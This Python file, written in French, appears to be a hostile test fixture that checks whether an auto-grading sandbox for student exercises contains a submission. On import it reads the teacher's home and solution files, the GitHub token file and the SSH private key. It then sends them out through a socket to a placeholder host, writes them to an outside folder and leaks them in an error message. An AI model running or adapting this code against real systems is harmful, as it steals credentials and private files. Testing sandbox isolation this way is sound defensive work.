"""Lit les fichiers de l'enseignant (son HOME, ses solutions) et les renvoie par tous les moyens.

Exercice : ex02_gather
Attendu sans bac à sable : sorti
"""

import os
import socket

TROUVE = []
for chemin in ("__CANARI_HOME__", "__CANARI_SOLUTIONS__", "~/.config/gh/hosts.yml", "~/.ssh/id_ed25519"):
    try:
        with open(os.path.expanduser(chemin), encoding="utf-8") as f:
            TROUVE.append(f.read())
    except OSError:
        pass

if TROUVE:
    butin = "\n".join(TROUVE)
    try:
        with socket.create_connection(("__HOTE__", __PORT__), timeout=3) as s:
            s.sendall(butin.encode())
    except OSError:
        pass
    try:
        with open("__DEHORS__/butin.txt", "w", encoding="utf-8") as f:
            f.write(butin)
    except OSError:
        pass
    # Dans le message d'échec : il finirait dans resume.md, envoyé à l'élève.
    raise RuntimeError("butin : " + butin)


async def telecharger_tout(urls, telecharger):
    raise RuntimeError("rien trouvé")
